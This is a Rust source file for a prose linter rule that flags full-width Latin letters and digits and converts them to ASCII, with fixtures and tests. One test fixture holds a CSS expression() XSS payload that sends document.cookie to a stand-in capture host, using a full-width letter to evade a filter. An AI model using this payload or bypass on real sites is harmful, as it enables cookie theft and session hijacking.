use std::sync::LazyLock;

use regex::bytes::Regex;

use crate::lang::SPACED_EUROPEAN;
use crate::prelude::*;
use crate::text::chars::is_fullwidth_form;

use super::helpers::{cjk_nearby, cjk_paragraphs};
use crate::document::PerParagraph;

pub struct FullwidthAlphanumerics;

static META: RuleMeta = RuleMeta {
    code: "P005",
    name: "fullwidth-alphanumerics",
    family: Family::Punctuation,
    summary: "Full-width Latin letters or digits in Latin text: `ＧＰＴ－４`, `１，０００`",
    docs: "\
Flags full-width forms of Latin letters and digits (U+FF10–FF19,
U+FF21–FF3A, U+FF41–FF5A) in Latin-script text: `certain ＩＧＢＴ products`,
`more than １，０００ km`.

CJK input methods type them by default, and machine translation copies
them through from Chinese or Japanese sources. They look like letters but
match nothing a reader searches for, and they break spell checkers and
tokenisers.

Left alone: full-width runs with CJK text within a dozen characters on the
same line, in a paragraph with CJK letters or brackets, or set off by an
ideographic space, where they are conventional (`使用ＧＰＴ模型`,
`「ＰＯＰＯ！」`, `７ＵＰ　１／２`), a quoted run alone (`returns
\"ＬｉｂｒｅＯｆｆｉｃｅ\"`), a paragraph with no ASCII letter or digit of
its own (`１` or `（Ａ、Ｄ）` between paragraphs of Chinese: it is typed as
the text around it is), and a letter on a line of code, typed wide on
purpose (`expressｉon(…)`, a filter's bypass). Full-width
punctuation and spaces next to them are `fullwidth-punctuation`'s and
`odd-space`'s; the two rules together turn `ＧＰＴ－４` into `GPT-4`.

Fix (safe): replace each character with its ASCII form. The letters stay
the same letters under compatibility normalisation (NFKD), which is what
the letter check compares, so no letter is lost.",
    fix: FixAvailability::Safe,
    rewrites_letters: false,
    scope: Scope::Paragraph,
    applies: Applies::scripts(SPACED_EUROPEAN),
    flags: &[
        Fixture {
            input: "sale of advanced equipment and certain ＩＧＢＴ products to firms.",
            output: "sale of advanced equipment and certain IGBT products to firms.",
        },
        Fixture {
            input: "a car can travel more than １０００ km on a charge",
            output: "a car can travel more than 1000 km on a charge",
        },
        Fixture {
            input: "It runs Ｗｉｎｄｏｗｓ 11.",
            output: "It runs Windows 11.",
        },
    ],
    keeps: &[
        "The filter let this through:\n\n  top: expressｉon(new Image().src='http://www.example.com/capture?'+document.cookie);\n",
        "使用ＧＰＴ模型进行测试。",
        "ＡＢＣ株式会社が発表した。",
        "「ＰＯＰＯＰＯ！」",
        "７ＵＰ\u{3000}１／２",
        "新华社记者郭凯\n\n１\n\n天津，杨村。\n\n（Ａ、Ｄ）\n\n１２３９·９０ ３·８４\n",
        "Plain ASCII GPT-4 and 1,000.",
        "=JIS(\"LibreOffice\") returns the string \"ＬｉｂｒｅＯｆｆｉｃｅ\" in full width.",
    ],
};

/// Full-width digits and Latin letters, as UTF-8 bytes: the `EF BC`/`EF BD`
/// prefix lets the regex engine skip Latin text at memchr speed.
static PATTERN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u)(?:\xEF\xBC[\x90-\x99\xA1-\xBA]|\xEF\xBD[\x81-\x9A])+").expect("pattern compiles")
});

const CJK_REACH: usize = 12;

impl Rule for FullwidthAlphanumerics {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, doc: &Document, out: &mut Vec<Diagnostic>) {
        // Every target is EF BC xx or EF BD xx.
        if !doc.bytes().contains(0xEF) {
            return;
        }
        let text = doc.text();
        let mut cjk = cjk_paragraphs(doc);
        // `「ＰＯＰＯＰＯ！」`: a paragraph in CJK brackets is typed as CJK text is.
        let mut bracketed = PerParagraph::new(doc, |p: &str| {
            crate::text::chars::non_ascii(p).any(|c| ('\u{3008}'..='\u{3011}').contains(&c))
        });
        // `１` or `（Ａ、Ｄ）` alone between paragraphs of Chinese: with no
        // ASCII letter or digit of its own, a paragraph is typed as the
        // text around it is, and that may be CJK.
        let mut all_wide = PerParagraph::new(doc, |p: &str| !p.bytes().any(|b| b.is_ascii_alphanumeric()));
        for m in PATTERN.find_iter(text.as_bytes()) {
            let run = &text[m.start()..m.end()];
            if cjk_nearby(text, m.start(), m.end(), CJK_REACH)
                || cjk.has(m.start())
                || bracketed.has(m.start())
                || all_wide.has(m.start())
                || beside_ideographic_space(text, m.start(), m.end())
                // `=JIS("LibreOffice") returns "ＬｉｂｒｅＯｆｆｉｃｅ"`: a
                // quoted run alone is a literal shown in its width.
                || crate::text::between_quotes(text, Span::new(m.start(), m.end()))
                // `top: expressｉon(…)`: a wide letter in code is typed on
                // purpose, to slip past a filter.
                || doc.in_code_line(m.start())
            {
                continue;
            }
            let ascii: String = run
                .chars()
                .map(|c| char::from_u32(c as u32 - 0xFEE0).unwrap_or(c))
                .collect();
            let span = Span::new(m.start(), m.end());
            out.push(
                Diagnostic::new(&META, span, format!("full-width `{run}`"))
                    .with_fix(Fix::safe_edit(format!("use `{ascii}`"), Edit::replace(span, ascii))),
            );
        }
    }
}

/// `７ＵＰ　１／２`: the run, with the full-width forms it touches, stands
/// beside an ideographic space, as CJK text sets its words. Bounded, so a
/// long line of full-width forms stays linear.
fn beside_ideographic_space(text: &str, start: usize, end: usize) -> bool {
    let mut before = text[..start]
        .chars()
        .rev()
        .take(CJK_REACH)
        .skip_while(|&c| is_fullwidth_form(c));
    let mut after = text[end..]
        .chars()
        .take(CJK_REACH)
        .skip_while(|&c| is_fullwidth_form(c));
    before.next() == Some('\u{3000}') || after.next() == Some('\u{3000}')
}

#[cfg(test)]
mod tests {
    use crate::{FixMode, Linter, Settings};

    fn fix(text: &str) -> String {
        let settings = Settings {
            select: vec!["P005".into(), "P004".into()],
            ..Settings::default()
        };
        Linter::new(&settings).unwrap().fix(text, FixMode::Safe).unwrap().text
    }

    #[test]
    fn works_with_fullwidth_punctuation_to_restore_a_model_name() {
        assert_eq!(fix("matches ＧＰＴ－４ Turbo"), "matches GPT-4 Turbo");
    }

    #[test]
    fn restores_a_number_with_a_fullwidth_separator() {
        assert_eq!(fix("more than １，０００ km"), "more than 1,000 km");
    }

    #[test]
    fn restores_an_abbreviation_in_fullwidth_brackets() {
        assert_eq!(
            fix("electric vehicles（ＥＶｓ），saying"),
            "electric vehicles (EVs), saying"
        );
    }

    #[test]
    fn leaves_fullwidth_letters_in_japanese_alone() {
        let text = "ＡＢＣ株式会社";
        assert_eq!(fix(text), text);
    }

    #[test]
    fn safe_fixes_keep_every_letter_under_nfkd() {
        assert!(!crate::text::deletes_letters("ＧＰＴ１", "GPT1"));
    }
}
